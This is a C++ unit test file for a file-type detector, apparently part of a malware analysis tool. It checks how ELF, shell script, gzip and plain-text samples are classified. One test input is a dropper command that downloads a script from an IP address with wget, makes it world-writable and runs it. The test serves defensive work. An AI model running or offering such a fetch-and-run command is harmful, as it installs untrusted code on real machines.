#include "analysis/static/file_type.h"

#include <gtest/gtest.h>

#include <string>

namespace mitsu::analysis {
namespace {

FileType detect(std::string_view text) {
  FileTypeDetector detector;
  return detector.detect(std::as_bytes(std::span(text.data(), text.size())));
}

TEST(FileType, Categories) {
  std::string elf(
      "\x7f"
      "ELF\x01\x01\x01",
      7);
  elf.resize(64, '\0');
  EXPECT_EQ(detect(elf).category, FileCategory::kElf);
  EXPECT_EQ(detect("#!/bin/sh\necho hi\n").category, FileCategory::kScript);
  FileType dropper =
      detect("cd /tmp; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh\n");
  EXPECT_EQ(dropper.category, FileCategory::kScript) << dropper.mime;
  EXPECT_EQ(detect(std::string("\x1f\x8b\x08\x00\x00\x00\x00\x00", 8)).category,
            FileCategory::kArchive);
  EXPECT_EQ(detect("just some notes\n").category, FileCategory::kOther);
  EXPECT_FALSE(detect("#!/bin/sh\n").description.empty());
  EXPECT_EQ(file_category_name(FileCategory::kScript), "script");
}

}  // namespace
}  // namespace mitsu::analysis
